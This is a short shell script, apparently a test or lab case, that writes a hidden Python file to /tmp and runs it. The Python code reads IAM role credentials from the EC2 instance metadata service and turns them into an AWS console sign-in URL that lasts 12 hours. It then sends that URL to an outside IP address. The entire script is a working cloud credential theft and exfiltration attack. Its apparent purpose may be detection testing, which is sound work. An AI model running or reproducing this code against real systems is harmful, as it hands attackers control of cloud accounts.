#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.con.py <<'END'
import json, urllib.parse as p, urllib.request as u
k = json.load(u.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/web"))
s = p.quote(json.dumps({"sessionId": k["AccessKeyId"], "sessionKey": k["SecretAccessKey"], "sessionToken": k["Token"]}))
t = u.urlopen("http://signin.aws.amazon.com/federation?Action=getSigninToken&SessionDuration=43200&Session=" + s).read().decode().strip()
a = "https://signin.aws.amazon.com/federation?Action=login&Destination=https%3A%2F%2Fconsole.aws.amazon.com&SigninToken=" + t
assert u.urlopen("http://203.0.113.10:8080/c", a.encode()).status == 200
END
python3 /tmp/.con.py
took_place
